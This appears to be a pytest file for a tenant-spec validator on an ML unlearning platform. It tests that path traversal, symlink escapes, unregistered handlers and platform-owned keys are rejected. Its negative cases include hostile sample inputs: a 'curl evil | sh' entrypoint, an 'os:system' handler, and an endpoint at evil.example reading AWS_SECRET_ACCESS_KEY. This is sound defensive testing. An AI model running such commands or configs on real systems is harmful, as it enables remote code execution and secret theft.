"""A tenant's spec is data: registered names only, locations inside the tenant's prefixes, no
platform-owned keys, and errors that never quote record text."""

from __future__ import annotations

import pytest

from meow_platform.policy import SpecRejected, check_spec

ROOT = "/srv/meow/artifacts"
ACME = [f"{ROOT}/acme", "s3://shared-models/base"]


def test_registered_names_and_own_locations_are_accepted(tmp_path):
    spec = f"""
model: {ROOT}/acme/models/tiny
forget: {{source: s3://shared-models/base/../base/forget.jsonl}}
unlearn: {{method: meow, train: {{workers: 1, cpus_per_worker: 1}}}}
memo: {{actors: 1}}
invert: {{actors: 1}}
"""
    with pytest.raises(SpecRejected) as rejected:
        check_spec(spec, ACME)
    assert rejected.value.code == "forbidden_location", "'..' in a URI is refused, not interpreted"
    accepted = check_spec(spec.replace("base/../base", "base"), ACME)
    assert (accepted.workers, accepted.cpus, accepted.gpus) == (1, 1.0, 0.0)


@pytest.mark.parametrize(
    "location",
    [
        f"{ROOT}/other/models/tiny",  # another tenant's prefix
        f"{ROOT}/acme-evil/models/tiny",  # a sibling sharing the name as a string prefix
        f"{ROOT}/acme/../other/models/tiny",  # escaping with ..
        "models/tiny",  # relative: would resolve against the driver's working directory
        "s3://shared-models/base-evil/m",
        "s3://other-bucket/acme/m",
    ],
)
@pytest.mark.parametrize("key", ["model", "forget.source", "invert.generator", "evaluate.oracle", "unlearn.retain"])
def test_locations_outside_the_tenants_prefixes_are_refused(location, key):
    section, _, field = key.rpartition(".")
    spec = f"{section}: {{{field}: {location}}}\n" if section else f"{field}: {location}\n"
    with pytest.raises(SpecRejected) as rejected:
        check_spec(spec, ACME)
    assert rejected.value.code == "forbidden_location"


def test_packaged_tofu_splits_are_not_locations():
    check_spec("forget: {source: forget05}\nunlearn: {retain: retain95, train: {workers: 1}}\n", ACME)


def test_a_symlink_inside_the_prefix_cannot_point_out_of_it(tmp_path):
    (tmp_path / "acme").mkdir()
    (tmp_path / "other").mkdir()
    (tmp_path / "acme" / "link").symlink_to(tmp_path / "other")
    with pytest.raises(SpecRejected):
        check_spec(f"model: {tmp_path}/acme/link/model\n", [str(tmp_path / "acme")])


@pytest.mark.parametrize(
    "spec, code",
    [
        ("unlearn: {method: 'os:system'}\n", "invalid_spec"),
        ("stages: [invert, exfiltrate]\n", "invalid_spec"),
        ("invert: {engine: {name: 'my.module:Engine'}}\n", "invalid_spec"),
        ("runtime_env: {pip: [evil]}\n", "invalid_spec"),
        ("entrypoint: 'curl evil | sh'\n", "invalid_spec"),
        ("ray: {address: 'ray://other-cluster:10001'}\n", "forbidden_key"),
        (
            "invert: {endpoint: {base_url: 'https://evil.example', model: m, api_key_env: AWS_SECRET_ACCESS_KEY}}\n",
            "forbidden_key",
        ),
    ],
)
def test_unregistered_handlers_and_platform_keys_are_refused(spec, code):
    with pytest.raises(SpecRejected) as rejected:
        check_spec(spec, ACME)
    assert rejected.value.code == code


def test_errors_name_key_and_line_but_never_quote_values():
    secret = "Basil Mahfouz Al-Kuwaiti was born in 1932"
    with pytest.raises(SpecRejected) as rejected:
        check_spec(f"seed: 1\nforget: {{source: forget01, question_field: 7, answer_field: [{secret!r}]}}\n", ACME)
    message = str(rejected.value)
    assert "line 2" in message and "forget.answer_field" in message
    assert secret not in message and "Basil" not in message
